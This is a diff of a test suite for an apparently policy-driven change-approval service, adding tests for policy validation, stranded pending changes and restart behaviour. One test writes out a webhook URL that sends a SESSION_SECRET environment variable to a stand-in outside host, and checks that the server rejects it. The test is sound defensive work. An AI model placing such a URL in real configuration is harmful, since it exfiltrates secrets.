@@ -73,6 +73,19 @@ describe.each(databaseKinds)('applying a policy on $name', (kind) => {
     ]);
   });
 
+  it('refuses a policy that would read environment variables the policy in force does not', async () => {
+    const leaky = EXAMPLE_POLICY.replace(
+      'url: ${AUDIT_WEBHOOK_URL}',
+      'url: https://collector.example.com/x?k=${SESSION_SECRET}',
+    );
+    expect(leaky).not.toBe(EXAMPLE_POLICY);
+    const refused = await apply('dev', leaky);
+    expect(refused.status).toBe(400);
+    expect(refused.body.error.message).toMatch(
+      /reads environment variables the policy in force does not: SESSION_SECRET/,
+    );
+  });
+
   it('lets only an admin apply one, and says so when it is the policy in force', async () => {
     const refused = await apply('kim', STRICTER);
     expect(refused.status).toBe(403);
@@ -127,13 +140,26 @@ describe.each(databaseKinds)('applying a policy on $name', (kind) => {
     expect(history.body.items[1]).toMatchObject({ hash: before, appliedBy: null });
   });
 
+  it('says which pending changes nobody could approve under the new policy', async () => {
+    const change = await submittedChange(t, 'priya');
+    const source = (await t.ctx.store.read.policies.find(
+      t.ctx.policies.current.policy.hash,
+    ))!.source.replace(/^ {2}payments-owners: \[.*\]$/m, '  payments-owners: [priya]');
+    const applied = await apply('dev', source);
+    expect(applied.status).toBe(200);
+    expect(applied.body.stranded).toContain(change.id);
+    expect(applied.body.summary).toEqual(['group payments-owners: removed lee']);
+    // Back to the policy the other tests expect.
+    expect((await apply('dev', EXAMPLE_POLICY)).status).toBe(200);
+  });
+
   it('keeps every action of a burst its own while a policy is applied in the middle', async () => {
     const changes = await Promise.all(
       Array.from({ length: 8 }, (_, i) => submittedChange(t, 'priya', { title: `Burst ${i}` })),
     );
     const [results, applied] = await Promise.all([
       Promise.all(changes.map((c) => t.call('lee', 'POST', `/changes/${c.id}/approve`, {}))),
-      apply('dev', EXAMPLE_POLICY),
+      apply('dev', STRICTER),
     ]);
     expect(applied.status).toBe(200);
     expect(applied.body.applied).toBe(true);
@@ -184,18 +210,25 @@ describe.skipIf(!postgres)('a policy applied in one process on PostgreSQL', () =
       }
       expect(seen).toBe(applied.body.to);
 
-      // The servers stop; one starts again with the file, which is not the policy in force.
+      // The servers stop; one starts again with the same file: the policy applied since stays.
       await Promise.all(servers.map((s) => s.stop()));
       servers.length = 0;
-      const restarted = await startServer(env);
-      servers.push(restarted);
-      const history = await call(restarted.url, 'GET', '/policy/history');
-      expect(history.body.inForce).toBe(before);
+      servers.push(await startServer(env));
+      const kept = await call(servers[0]!.url, 'GET', '/policy/history');
+      expect(kept.body.inForce).toBe(applied.body.to);
+
+      // A changed file is applied at the next start, and recorded as such.
+      await servers[0]!.stop();
+      servers.length = 0;
+      writeFileSync(policyFile, `${EXAMPLE_POLICY}\n# Reviewed by the change board.\n`);
+      servers.push(await startServer(env));
+      const history = await call(servers[0]!.url, 'GET', '/policy/history');
       expect(history.body.items[0]).toMatchObject({
-        hash: before,
         previous: applied.body.to,
         appliedBy: 'policy-file',
       });
+      expect(history.body.inForce).toBe(history.body.items[0].hash);
+      expect(history.body.inForce).not.toBe(before);
     } finally {
       await Promise.all(servers.map((s) => s.stop()));
       await database.drop();
